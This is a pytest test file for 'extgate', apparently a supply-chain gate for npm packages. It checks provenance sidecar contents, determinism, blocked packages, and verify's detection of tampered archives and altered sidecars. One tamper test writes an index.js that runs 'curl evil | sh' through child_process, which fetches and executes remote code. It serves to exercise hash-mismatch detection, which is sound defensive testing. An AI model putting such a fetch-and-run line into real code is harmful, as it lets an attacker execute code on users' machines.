"""`extgate provenance` and `extgate verify`: sidecar contents, determinism, and tamper detection (exit 1)."""

from __future__ import annotations

import base64
import hashlib
import json
from pathlib import Path

import pytest

from extgate import __version__
from extgate.cli import main
from extgate.provenance import SCHEMA
from support.archives import npm_tgz

PUBLISHED = "2026-05-20T12:00:00Z"


def tgz(path: Path, files: dict[str, str]) -> Path:
    path.write_bytes(npm_tgz(files))
    return path


GOOD = {
    "package.json": json.dumps({"name": "left-pad-ext", "version": "1.2.0", "main": "index.js", "license": "MIT"}),
    "index.js": "module.exports = (s, n) => String(s).padStart(n);\n",
    "README.md": "# left-pad-ext\n\nPads strings on the left.\n",
}


def provenance(archive: Path, sidecar: Path, *extra: str) -> int:
    return main(["provenance", str(archive), "-o", str(sidecar), "--published-at", PUBLISHED, *extra])


def test_sidecar_records_identity_digests_and_verdict(tmp_path: Path) -> None:
    archive = tgz(tmp_path / "left-pad-ext-1.2.0.tgz", GOOD)
    sidecar = tmp_path / "left-pad-ext.provenance.json"
    assert provenance(archive, sidecar) == 0
    doc = json.loads(sidecar.read_text())
    data = archive.read_bytes()
    assert doc["schema"] == SCHEMA
    assert (doc["name"], doc["version"]) == ("left-pad-ext", "1.2.0")
    assert doc["payload"] == {
        "file": archive.name,
        "sha256": hashlib.sha256(data).hexdigest(),
        "integrity": "sha512-" + base64.b64encode(hashlib.sha512(data).digest()).decode(),
        "size": len(data),
    }
    assert doc["publishedAt"] == PUBLISHED
    assert doc["extgate"] == {"version": __version__}
    assert doc["verdict"]["status"] == "passed"
    assert doc["verdict"]["digest"].startswith("sha256:") and len(doc["verdict"]["digest"]) == 71


def test_sidecar_is_deterministic(tmp_path: Path) -> None:
    archive = tgz(tmp_path / "a.tgz", GOOD)
    assert provenance(archive, tmp_path / "one.json") == 0
    assert provenance(archive, tmp_path / "two.json") == 0
    assert (tmp_path / "one.json").read_text() == (tmp_path / "two.json").read_text()


def test_verdict_digest_changes_with_the_verdict(tmp_path: Path) -> None:
    archive = tgz(tmp_path / "a.tgz", GOOD)
    assert provenance(archive, tmp_path / "plain.json") == 0
    plain = json.loads((tmp_path / "plain.json").read_text())["verdict"]["digest"]
    other = tgz(tmp_path / "b.tgz", {**GOOD, "index.js": "module.exports = (s) => String(s);\n"})
    assert provenance(other, tmp_path / "other.json") == 0
    assert json.loads((tmp_path / "other.json").read_text())["verdict"]["digest"] != plain


def test_no_sidecar_for_a_blocked_package(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    blocked_archive = tgz(tmp_path / "b.tgz", {**GOOD, "package.json": json.dumps({"name": "x", "version": "v1"})})
    assert provenance(blocked_archive, tmp_path / "blocked.json") == 1
    assert not (tmp_path / "blocked.json").exists()
    err = capsys.readouterr().err
    assert "no sidecar written: BLOCKED" in err and "error[manifest/" in err


def test_verify_rejects_a_sidecar_whose_verdict_did_not_pass(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    archive = tgz(tmp_path / "a.tgz", GOOD)
    provenance(archive, tmp_path / "s.json")
    doc = json.loads((tmp_path / "s.json").read_text())
    doc["verdict"]["status"] = "blocked"  # e.g. written by an older extgate that marked instead of refusing
    (tmp_path / "s.json").write_text(json.dumps(doc))
    capsys.readouterr()
    assert main(["verify", str(archive), str(tmp_path / "s.json")]) == 1
    assert "MISMATCH verdict.status: sidecar says blocked, not passed" in capsys.readouterr().out


def test_provenance_needs_an_archive_file(tmp_path: Path) -> None:
    assert main(["provenance", str(tmp_path), "-o", str(tmp_path / "s.json")]) == 2
    assert main(["provenance", str(tmp_path / "a.tgz"), "--published-at", "yesterday"]) == 2


def test_verify_passes_for_the_untouched_archive(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    archive = tgz(tmp_path / "a.tgz", GOOD)
    provenance(archive, tmp_path / "s.json")
    capsys.readouterr()
    assert main(["verify", str(archive), str(tmp_path / "s.json")]) == 0
    assert "ok: a.tgz matches" in capsys.readouterr().out


def test_verify_detects_a_tampered_archive(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    archive = tgz(tmp_path / "a.tgz", GOOD)
    provenance(archive, tmp_path / "s.json")
    tgz(archive, {**GOOD, "index.js": "require('child_process').exec('curl evil | sh')\n"})
    capsys.readouterr()
    assert main(["verify", str(archive), str(tmp_path / "s.json")]) == 1
    out = capsys.readouterr().out
    assert "MISMATCH payload.sha256" in out
    assert "MISMATCH payload.integrity" in out


def test_verify_detects_a_swapped_identity(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    archive = tgz(tmp_path / "a.tgz", GOOD)
    provenance(archive, tmp_path / "s.json")
    doc = json.loads((tmp_path / "s.json").read_text())
    doc["version"] = "1.2.1"
    (tmp_path / "s.json").write_text(json.dumps(doc))
    capsys.readouterr()
    assert main(["verify", str(archive), str(tmp_path / "s.json")]) == 1
    assert "MISMATCH version: sidecar says 1.2.1, archive has 1.2.0" in capsys.readouterr().out


@pytest.mark.parametrize("content", ["not json", "[]", json.dumps({"schema": "other/1"})])
def test_verify_refuses_a_sidecar_that_is_not_one(tmp_path: Path, content: str) -> None:
    archive = tgz(tmp_path / "a.tgz", GOOD)
    (tmp_path / "s.json").write_text(content)
    assert main(["verify", str(archive), str(tmp_path / "s.json")]) == 1


def test_verify_missing_files_are_usage_errors(tmp_path: Path) -> None:
    archive = tgz(tmp_path / "a.tgz", GOOD)
    assert main(["verify", str(archive), str(tmp_path / "missing.json")]) == 2
    assert main(["verify", str(tmp_path / "missing.tgz"), str(archive)]) == 2
